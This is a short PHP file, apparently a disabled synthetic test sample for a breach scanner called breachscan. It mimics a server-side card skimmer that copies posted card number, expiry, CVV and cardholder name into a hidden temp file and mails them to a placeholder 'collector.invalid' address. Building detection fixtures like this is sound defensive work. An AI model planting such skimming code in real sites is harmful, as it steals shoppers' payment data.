<?php
// synthetic test sample for breachscan: server-side card stealer shape - posted card
// fields copied to a file and mailed. Disabled by the early return; no real addresses.
return;
$line = $_POST['cc_number'] . '|' . $_POST['cc_exp'] . '|' . $_POST['cvv'] . '|' . $_POST['name'];
file_put_contents('/tmp/.sess_cache', base64_encode($line) . "\n", FILE_APPEND);
mail('drop@collector.invalid', 'c', $line);
